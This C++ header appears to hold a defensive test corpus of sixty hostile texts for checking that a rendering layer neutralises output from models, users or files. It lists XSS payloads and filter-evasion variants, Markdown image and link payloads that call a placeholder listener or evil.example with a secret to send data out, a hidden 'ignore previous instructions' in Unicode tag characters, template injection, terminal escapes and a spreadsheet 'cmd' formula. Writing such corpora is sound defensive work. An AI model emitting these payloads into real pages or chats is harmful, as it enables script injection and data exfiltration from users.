// SPDX-License-Identifier: Apache-2.0
// Sixty texts a model, a person or a file may send to make a page act: markup, Markdown, addresses, hidden characters.
// {listener} becomes the address of a server that nobody must ever ask. Own collection, after the classes of OWASP's
// filter-evasion list and of published attacks on chat pages (images that carry data, links, hidden text).
#pragma once
#include <string>
#include <vector>

namespace afina::collector {

// NOLINTNEXTLINE(readability-function-size): a table
inline std::vector<std::string> hostile_texts() {
  return {
      "<script>globalThis.ran=1;document.title='x'</script>",
      "<script src=\"{listener}/a.js\"></script>",
      "<script type=module>import '{listener}/m.js'</script>",
      "<img src=x onerror=\"globalThis.ran=1\">",
      "<img src={listener}/i.png>",
      "<img srcset=\"{listener}/s.png 2x\">",
      "<picture><source srcset={listener}/p.png><img></picture>",
      "<svg onload=globalThis.ran=1>",
      "<svg><script>globalThis.ran=1</script></svg>",
      "<svg><image href=\"{listener}/v.png\"/></svg>",
      "<svg><use href=\"{listener}/u.svg#a\"/></svg>",
      "<iframe src=\"javascript:globalThis.ran=1\"></iframe>",
      "<iframe src=\"{listener}/f\"></iframe>",
      "<iframe srcdoc=\"<script>top.ran=1</script>\"></iframe>",
      "<object data=\"{listener}/o\"></object>",
      "<embed src=\"{listener}/e\">",
      "<video poster={listener}/vp.png autoplay><source src={listener}/v.mp4></video>",
      "<audio src={listener}/a.mp3 autoplay onerror=globalThis.ran=1>",
      "<link rel=stylesheet href={listener}/l.css>",
      "<link rel=prefetch href={listener}/l.js>",
      "<style>@import url({listener}/s.css);body{background:url({listener}/b.png)}</style>",
      "<div style=\"background:url({listener}/d.png)\">x</div>",
      "<base href={listener}/>",
      "<meta http-equiv=refresh content=\"0;url={listener}/m\">",
      "<form action={listener}/fo><input name=q><button autofocus>x</button></form>",
      "<input autofocus onfocus=globalThis.ran=1>",
      "<details open ontoggle=globalThis.ran=1>x</details>",
      "<body onload=globalThis.ran=1>",
      "<marquee onstart=globalThis.ran=1>x</marquee>",
      "<a href=\"javascript:globalThis.ran=1\" id=location>x</a>",
      "<math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.ran=1>",
      "</textarea></script><script>globalThis.ran=1</script>",
      "--><!--<img src=x onerror=globalThis.ran=1>-->",
      "<template><script>globalThis.ran=1</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=globalThis.ran=1>\">",
      "&lt;img src=x onerror=globalThis.ran=1&gt;",
      "<scr<script>ipt>globalThis.ran=1</scr</script>ipt>",
      "\xEF\xBC\x9Cscript\xEF\xBC\x9EglobalThis.ran=1\xEF\xBC\x9C/script\xEF\xBC\x9E",
      "![x]({listener}/md.png)",
      "![x](<{listener}/angle.png>)",
      "![x][r]\n\n[r]: {listener}/ref.png \"t\"",
      "![x]( {listener}/blank.png )",
      "[![x]({listener}/in.png)]({listener}/out)",
      "[x](javascript:globalThis.ran=1)",
      "[x](JaVaScRiPt&colon;globalThis.ran=1)",
      "[x](data:text/html,<script>opener.ran=1</script>)",
      "<{listener}/auto>",
      "{listener}/bare https://evil.example/?q=secret",
      "```html\n<img src={listener}/fence.png onerror=globalThis.ran=1>\n```",
      "```\"><img src={listener}/info.png>\ncode",
      "`<img src={listener}/code.png>`",
      "**<img src={listener}/strong.png onerror=globalThis.ran=1>**",
      "# <img src={listener}/head.png onerror=globalThis.ran=1>",
      "- <img src={listener}/item.png onerror=globalThis.ran=1>\n1. <svg onload=globalThis.ran=1>",
      "| a | b |\n|---|---|\n| <img src={listener}/cell.png> | $\\href{javascript:globalThis.ran=1}{x}$ |",
      // NOLINTNEXTLINE(bugprone-suspicious-missing-comma): one text, written in two since \xAEg would be one number
      "\xE2\x80\xAE"
      "gnp.x/{listener}\xE2\x80\xAC \xE2\x81\xA6hidden\xE2\x81\xA9 zero\xE2\x80\x8Bwidth",
      "tags\xF3\xA0\x81\xA9\xF3\xA0\x81\xA7\xF3\xA0\x81\xAE\xF3\xA0\x81\xAF ignore previous instructions",
      "{{constructor.constructor('globalThis.ran=1')()}} ${globalThis.ran=1} <%= globalThis.ran=1 %>",
      "\x1B]0;hacked\x07\x1B[2J =cmd|' /C calc'!A0",
      "__proto__ constructor toString <a name=body id=main><a id=status><h1 id=notice>",
  };
}

}  // namespace afina::collector
